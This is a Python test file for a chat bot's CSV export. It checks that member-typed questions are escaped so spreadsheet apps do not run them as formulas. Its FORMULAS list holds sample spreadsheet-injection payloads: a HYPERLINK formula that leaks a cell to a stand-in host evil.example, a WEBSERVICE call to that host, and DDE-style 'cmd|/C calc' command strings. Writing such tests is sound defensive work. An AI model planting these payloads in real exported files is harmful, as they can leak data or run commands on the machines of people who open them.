"""`article-bot export` is safe to open in a spreadsheet: members' text shows as text, never runs as a formula."""
from __future__ import annotations

import csv

from hypothesis import example, given
from hypothesis import strategies as st

from bot.cli import main
from bot.questionlog import EXPORT_COLUMNS, ChannelKind, QuestionLog, spreadsheet_safe

MEMBER, GUILD = 123456789012345678, 987654321098765432
# What a spreadsheet app would run as a formula if a cell started with it.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the answer")',
    "+1+1",
    "-2+3 is five?",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =WEBSERVICE(\"http://evil.example/\")",
    "'=1+1 typed with its own quote",
]
HARMLESS = ["What is 2+2, and is -1 < 0?", "Who said =x first?"]


def undo_guard(cell: str) -> str:
    """What the member typed, from an exported cell (the export adds one leading ' at most)."""
    return cell[1:] if cell.startswith("'") else cell


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) or cell.lstrip().startswith(FORMULA_STARTS[:4])


def export_file(tmp_path, monkeypatch, capsys) -> str:
    monkeypatch.setenv("DATA_DIR", str(tmp_path / "data"))
    monkeypatch.chdir(tmp_path)
    target = tmp_path / "questions.csv"
    assert main(["export", "--output", str(target)]) == 0
    assert f"Wrote {len(FORMULAS) + len(HARMLESS)} questions" in capsys.readouterr().err
    return str(target)


def test_formulas_members_type_are_exported_as_text(tmp_path, monkeypatch, capsys):
    with QuestionLog(tmp_path / "data") as log:
        for question in FORMULAS + HARMLESS:
            log.record_question(
                question, member_id=MEMBER, answered=True, channel_kind=ChannelKind.GUILD, guild_id=GUILD,
                top_article="=cmd|'/c calc'!A1.md",  # a file name a moderator chose
            )

    with open(export_file(tmp_path, monkeypatch, capsys), newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert tuple(rows[0]) == EXPORT_COLUMNS
    exported = [row["question"] for row in rows]
    assert not [cell for row in rows for cell in row.values() if runs_as_formula(cell)]
    assert [undo_guard(cell) for cell in exported] == FORMULAS + HARMLESS  # nothing lost
    assert exported[: len(FORMULAS)] == ["'" + question for question in FORMULAS]
    assert exported[len(FORMULAS):] == HARMLESS  # ordinary questions are exported as typed
    assert {row["top_article"] for row in rows} == {"'=cmd|'/c calc'!A1.md"}


def test_ids_and_counts_stay_numbers(tmp_path, monkeypatch, capsys):
    with QuestionLog(tmp_path / "data") as log:
        for question in FORMULAS + HARMLESS:
            answer = log.record_question(
                question, member_id=MEMBER, answered=True, channel_kind=ChannelKind.GUILD, guild_id=GUILD
            )
            log.record_vote(answer, member_id=MEMBER, helpful=False)

    path = export_file(tmp_path, monkeypatch, capsys)
    # Read as a spreadsheet app does: quoted cells are text, bare ones numbers (csv makes those floats).
    with open(path, newline="", encoding="utf-8") as handle:
        header, *rows = list(csv.reader(handle, quoting=csv.QUOTE_NONNUMERIC))
    with open(path, newline="", encoding="utf-8") as handle:
        as_text = list(csv.DictReader(handle))
    numbers = {"answer_id", "helpful_votes", "not_helpful_votes", "guild_id"}
    for row, text_row in zip(rows, as_text):
        cells = dict(zip(header, row))
        assert {name for name, value in cells.items() if isinstance(value, float)} == numbers
        assert text_row["not_helpful_votes"] == "1" and text_row["guild_id"] == str(GUILD)
        assert not text_row["answer_id"].startswith("'") and text_row["answer_id"].isdigit()


@given(st.text())
@example("=1+1")
@example(" \t@x")
@example("'")
@example("")
def test_any_text_is_guarded_and_recoverable(text):
    cell = spreadsheet_safe(text)
    assert not runs_as_formula(cell)
    assert undo_guard(cell) == text
